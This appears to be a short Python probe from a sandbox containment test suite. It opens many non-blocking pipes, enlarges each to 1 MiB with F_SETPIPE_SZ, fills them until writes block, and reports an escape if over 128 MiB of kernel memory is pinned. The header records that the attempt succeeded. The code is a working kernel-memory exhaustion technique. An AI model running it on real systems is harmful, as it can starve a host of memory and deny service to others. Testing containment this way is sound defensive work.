# tries: pin the kernel's memory in pipes
# outcome: succeeded
from hostile import *
import fcntl
held = 0
try:
    while True:
        r, w = os.pipe2(os.O_NONBLOCK)
        try:
            fcntl.fcntl(w, 1031, 1 << 20)  # F_SETPIPE_SZ
        except OSError:
            pass
        try:
            while True:
                held += os.write(w, bytes(65536))
        except BlockingIOError:
            pass
except OSError:
    pass
if held > 128 << 20:
    escaped("%d bytes in pipes" % held)
contained()
